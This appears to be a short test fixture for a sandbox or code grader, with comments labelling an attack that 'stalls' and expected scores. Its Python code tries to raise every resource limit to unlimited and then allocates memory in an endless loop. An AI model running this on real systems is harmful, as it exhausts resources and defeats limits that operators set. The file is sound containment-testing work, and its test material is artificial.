# attack: Raises its own limits, and takes memory and processes then.
# gain: stall
# expect: q01=3 q02=0 q03=3
# flag: processes

# %% q02
import resource

for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_DATA):
    soft, hard = resource.getrlimit(kind)
    for limits in ((-1, -1), (hard, hard)):
        try:
            resource.setrlimit(kind, limits)
        except (ValueError, OSError):
            continue
held = []
while True:
    held.append(bytearray(50_000_000))
